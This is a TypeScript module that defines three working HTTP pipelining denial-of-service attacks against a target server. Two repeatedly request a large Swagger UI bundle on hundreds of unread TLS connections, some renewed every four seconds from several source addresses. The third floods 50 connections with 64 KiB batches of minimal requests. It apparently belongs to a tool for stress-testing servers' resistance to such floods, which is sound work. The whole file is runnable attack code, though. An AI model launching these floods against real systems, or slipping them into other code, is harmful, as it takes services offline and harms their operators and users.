import type { Socket } from "node:net";
import { type Attack, scaled, sourceOf, type Target } from "../attack.ts";
import { bytesOf, keepStanding, openSecure } from "../connection.ts";

const BUNDLE = bytesOf({ path: "/docs/swagger-ui-bundle.js" });
const BUNDLES = Buffer.concat(Array.from({ length: 290 }, () => BUNDLE));

/** 64 KiB of complete requests of the smallest possible size. */
const SMALLEST = Buffer.from("GET / HTTP/1.1\r\nHost:a\r\n\r\n");
const TINY = Buffer.concat(Array.from({ length: Math.floor(65_536 / SMALLEST.length) }, () => SMALLEST));

/** Milliseconds that a renewed connection stays open: an answer of which nothing is read for 5 s may be cut. */
const RENEWED_MS = 4000;

/** Number of answers to one batch, and of batches per connection. */
const ANSWERS = TINY.length / SMALLEST.length;
const MOST_BATCHES = 50;

/** Sends a batch, and the next one after all answers to it. */
function sendBatches(target: Target): Socket {
	const socket = openSecure(target, sourceOf(target, 0));
	let batches = 1;
	let answered = 0;
	socket.once("secureConnect", () => socket.write(TINY));
	socket.on("data", (bytes: Buffer) => {
		for (let at = bytes.indexOf("HTTP/1.1 "); at !== -1; at = bytes.indexOf("HTTP/1.1 ", at + 9)) answered++;
		if (answered < batches * ANSWERS * 0.99 || batches === MOST_BATCHES) return;
		batches++;
		socket.write(TINY);
	});
	return socket;
}

/** Many requests at the same time on one connection. */
export const PIPELINING: readonly Attack[] = [
	{
		name: "pipelined-bundle",
		title: "290 simultaneous requests for the API page's bundle on 4 connections, not read",
		isCutOff: true,
		run(target, counts, over) {
			const open = () => {
				const socket = openSecure(target, sourceOf(target, 0));
				socket.once("secureConnect", () => socket.write(BUNDLES));
				return socket;
			};
			return keepStanding({ standing: 4, perTick: 1, open }, counts, over);
		},
	},
	{
		name: "renewed-bundle",
		title: "the API page's bundle on 256 connections from 4 sources, not read, each replaced after 4 s",
		isCutOff: true,
		run(target, counts, over) {
			const open = (at: number) => {
				const socket = openSecure(target, sourceOf(target, at % 4));
				socket.once("secureConnect", () => socket.write(BUNDLES));
				const timer = setTimeout(() => over.aborted || socket.destroy(), RENEWED_MS);
				return socket.once("close", () => clearTimeout(timer));
			};
			return keepStanding({ standing: scaled(target, 256), perTick: 5, open }, counts, over);
		},
	},
	{
		name: "pipelined-tiny",
		title: "tiny requests, 64 KiB at a time, repeatedly, on 50 connections",
		run: (target, counts, over) =>
			keepStanding({ standing: scaled(target, 50), perTick: 5, open: () => sendBatches(target) }, counts, over),
	},
];
